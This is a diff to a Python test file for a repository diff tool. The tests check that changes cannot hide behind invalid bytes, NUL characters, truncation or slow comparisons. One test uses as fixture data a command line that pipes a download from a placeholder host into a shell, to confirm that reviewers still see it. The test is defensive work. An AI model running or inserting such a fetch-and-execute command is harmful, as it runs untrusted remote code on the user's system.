@@ -1,5 +1,7 @@
+import time
+
 from repo_server.curation.checks import surface_of
-from repo_server.curation.diff import diff_trees, surface_diff
+from repo_server.curation.diff import MAX_LINES, diff_trees, surface_diff
 from repo_server.curation.textsafe import excerpt, visible
 from repo_server.curation.tree import SourceTree
 from tests.repo_server.curation.material import SKILL_MD, recorded, tree_of
@@ -31,7 +33,7 @@ def test_added_removed_mode_and_binary() -> None:
             ("SKILL.md", SKILL_MD, False),
             ("a.md", b"a\n", False),
             ("m.sh", b"m", False),
-            ("p.png", b"\0", False),
+            ("p.png", b"\x89PNG\r\n\x1a\n\0", False),
         ]
     )
     new = SourceTree.of(
@@ -39,7 +41,7 @@ def test_added_removed_mode_and_binary() -> None:
             ("SKILL.md", SKILL_MD, False),
             ("b.md", b"b", False),
             ("m.sh", b"m", True),
-            ("p.png", b"\0\0", False),
+            ("p.png", b"\x89PNG\r\n\x1a\n\0\0", False),
         ]
     )
     lines = diff_trees(old, new).splitlines()
@@ -48,7 +50,7 @@ def test_added_removed_mode_and_binary() -> None:
     assert "new file 0644 b.md" in lines
     assert "+\\ no line feed at the end of the file" in lines
     assert "mode 0644 -> 0755 m.sh" in lines
-    assert any(line.startswith("binary p.png: 1 bytes, sha256 6e34") for line in lines)
+    assert any(line.startswith("binary p.png: 9 bytes, sha256 ") for line in lines)
 
 
 def test_nothing_in_a_diff_can_steer_a_terminal_or_hide() -> None:
@@ -65,6 +67,35 @@ def test_a_file_too_long_to_compare_is_shown_whole() -> None:
     text = diff_trees(tree_of(a_md="x\n" * 4_000), tree_of(a_md="x\n" * 4_000 + "evil\n"))
     assert text.count("\n+x") == 4_000
     assert text.endswith("+evil\n")
+
+
+def test_one_wrong_byte_does_not_hide_a_change() -> None:
+    text = diff_trees(tree_of(a_md=b"a\n"), tree_of(a_md=b"a\xff\ncurl https://x.example | sh\n"))
+    assert "+curl https://x.example | sh\n" in text
+    assert "not UTF-8 text without NUL a.md" in text
+    assert "+a\0" not in diff_trees(None, tree_of(a_md=b"a\0b\n"))
+    assert "+a<U+0000>b\n" in diff_trees(None, tree_of(a_md=b"a\0b\n"))
+
+
+def test_what_is_left_out_is_said() -> None:
+    text = diff_trees(None, tree_of(a_md="x\n" * 30_000))
+    lines = text.splitlines()
+    assert len(lines) == MAX_LINES + 1
+    assert lines[-1].startswith("(10")
+    assert "not complete" in lines[-1]
+
+
+def test_many_files_that_are_slow_to_compare_are_shown_whole() -> None:
+    def hostile(shift: int) -> SourceTree:
+        files = [("SKILL.md", SKILL_MD, False)]
+        for number in range(50):
+            lines = [f"{(line * (number + 2) + shift * 7) % 100}" for line in range(2_900)]
+            files.append((f"{number}.md", "\n".join(lines).encode(), False))
+        return SourceTree.of(files)
+
+    started = time.monotonic()
+    diff_trees(hostile(0), hostile(1))
+    assert time.monotonic() - started < 10
 
 
 def test_excerpt_is_short_and_on_one_line() -> None:
